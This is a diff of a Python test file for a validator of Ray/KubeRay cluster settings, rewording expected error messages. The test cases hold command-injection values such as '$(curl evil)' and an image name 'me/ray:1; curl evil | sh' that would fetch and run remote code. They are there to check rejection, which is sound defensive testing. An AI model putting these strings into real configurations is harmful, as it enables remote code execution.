@@ -451,7 +451,7 @@ NO_KEY = cpu_type(custom={"MBLT": 1})
         ),
         (a_design(cpu_type(custom={"vgpu": 2})), {}, "would take the resource 'vgpu' for Ray's own"),
         (a_design(trials=TRIALS.on_nodes({"zone": "eu"})), {"format": "kuberay-helm"}, "chart has no place for Ray's"),
-        (a_design(TPU_V7), {"ray_version": "2.50.0"}, "ends at a group of TPU-V7X, as 'cpu' is: take a newer Ray"),
+        (a_design(TPU_V7), {"ray_version": "2.50.0"}, "fails at a group of TPU-V7X, as 'cpu' is: take a newer Ray"),
         (a_design(trials=TRIALS.on_nodes({"zone": "eu"})), {"ray_version": "2.50.0"}, "take Ray 2.51 or newer"),
     ],
 )
@@ -491,8 +491,8 @@ def test_nodes_that_come_several_at_once_come_in_multiples_and_only_on_kubernete
         ({"job": "x", "runtime_env": {"env_vars": {"A": "$(curl evil)"}}}, "KubeRay's shell would run"),
         ({"job": "x", "runtime_env": {"pip": ["`curl evil`"]}}, "KubeRay's shell would run"),
         ({"image": ""}, "image"),
-        ({"image": "me/ray:1; curl evil | sh"}, "no name of a container image"),
-        ({"image": "me/ray:1\n"}, "no name of a container image"),
+        ({"image": "me/ray:1; curl evil | sh"}, "does not name a container image"),
+        ({"image": "me/ray:1\n"}, "does not name a container image"),
         ({"platform": "aks"}, "platform"),
     ],
 )
